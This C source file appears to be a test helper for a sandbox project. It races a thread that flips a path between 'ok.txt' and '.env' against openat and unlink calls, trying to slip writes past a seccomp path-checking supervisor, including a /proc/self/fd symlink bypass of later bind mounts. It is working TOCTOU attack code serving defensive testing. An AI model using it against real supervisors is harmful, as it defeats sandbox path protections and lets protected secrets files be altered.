/* race_open: a TOCTOU attack on a path-checking supervisor.
 *
 *   race_open ITERATIONS [existing|held|unlink]
 *
 * One thread flips a shared path buffer between "ok.txt" and ".env" as fast as
 * it can; the main thread calls openat(AT_FDCWD, buf, O_WRONLY|O_CREAT|O_APPEND)
 * ITERATIONS times and writes "PWNED\n" through every fd it gets. A supervisor
 * that checks the path it read from our memory and then lets the kernel re-read
 * it (SECCOMP_USER_NOTIF_FLAG_CONTINUE) loses this race sooner or later and
 * .env gains a line. Prints "opened=N failed=M" so the test can see that both
 * sides of the race were actually exercised.
 *
 * `held`: as `existing`, but .env is first opened for reading (fd N) and "x"
 * made a symlink to /proc/self/fd/N, then, after a pause (the session binds
 * the protected names meanwhile), the path flips between "ok.txt" and "x":
 * a reopen through the fd would reach .env on the mount it was opened on,
 * past a bind made later.
 *
 * `existing`: ok.txt is made first and the opens are O_WRONLY|O_APPEND,
 * without O_CREAT, which a supervisor whose kernel re-checks protected names
 * lets the kernel perform (docs/enforcement.md, "Write opens the kernel
 * re-checks"). A swap the kernel then catches fails with EROFS, counted
 * apart as "rechecked=N".
 *
 * `unlink`: the same race on unlink(2): ok.txt is made again (by its own
 * name) before each unlink of the flipping path. A swap the kernel catches
 * fails with EBUSY (.env is a mount point in the command's namespace).
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Both names fit in 8 bytes, so one aligned 8-byte store flips the whole
 * path: the opener sees one name or the other, never a torn mixture (which
 * would only create stray files and weaken the attack). */
static _Alignas(8) char path_buf[8];
static atomic_int stop_flag;
static const char* other_name = ".env";  /* what the path flips to */

static void setPath(unsigned long long word) {
  __atomic_store_n((unsigned long long*)path_buf, word, __ATOMIC_RELAXED);
}

static unsigned long long wordOf(const char* s) {
  unsigned long long w = 0;
  memcpy(&w, s, strlen(s) + 1);
  return w;
}

static void* flipper(void* arg) {
  (void)arg;
  const unsigned long long ok = wordOf("ok.txt"), env = wordOf(other_name);
  while (!atomic_load_explicit(&stop_flag, memory_order_relaxed)) {
    setPath(ok);
    setPath(env);
  }
  return NULL;
}

int main(int argc, char** argv) {
  long iterations = argc > 1 ? strtol(argv[1], NULL, 10) : 100000;
  const int held = argc > 2 && strcmp(argv[2], "held") == 0;
  const int removing = argc > 2 && strcmp(argv[2], "unlink") == 0;
  const int existing = held || removing || (argc > 2 && strcmp(argv[2], "existing") == 0);
  if (held) {
    int env = open(".env", O_RDONLY);  /* before the session binds anything */
    char link[64];
    snprintf(link, sizeof link, "/proc/self/fd/%d", env);
    if (env < 0 || symlink(link, "x") != 0) {
      perror("held");
      return 2;
    }
    other_name = "x";
    usleep(1000 * 1000);
  }
  int flags = O_WRONLY | O_APPEND | O_CLOEXEC;
  if (existing) {
    int fd = open("ok.txt", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0) {
      perror("ok.txt");
      return 2;
    }
    close(fd);
  } else {
    flags |= O_CREAT;
  }
  setPath(wordOf("ok.txt"));
  pthread_t t;
  if (pthread_create(&t, NULL, flipper, NULL) != 0) {
    perror("pthread_create");
    return 2;
  }
  long opened = 0, failed = 0, rechecked = 0, other_errno = 0;
  for (long i = 0; i < iterations; i++) {
    if (removing) {
      int made = open("ok.txt", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
      if (made >= 0) close(made);
      if (unlinkat(AT_FDCWD, path_buf, 0) == 0) {
        opened++;
      } else {
        failed++;
        if (errno == EBUSY)
          rechecked++;
        else if (errno != EACCES && errno != EPERM)
          other_errno++;
      }
      continue;
    }
    int fd = openat(AT_FDCWD, path_buf, flags, 0644);
    if (fd >= 0) {
      ssize_t unused = write(fd, "PWNED\n", 6);
      (void)unused;
      close(fd);
      opened++;
    } else {
      failed++;
      if (existing && errno == EROFS)
        rechecked++;
      else if (errno != EACCES && errno != EPERM)
        other_errno++;
    }
  }
  atomic_store(&stop_flag, 1);
  pthread_join(t, NULL);
  printf("opened=%ld failed=%ld rechecked=%ld other_errno=%ld\n", opened, failed, rechecked,
         other_errno);
  return 0;
}
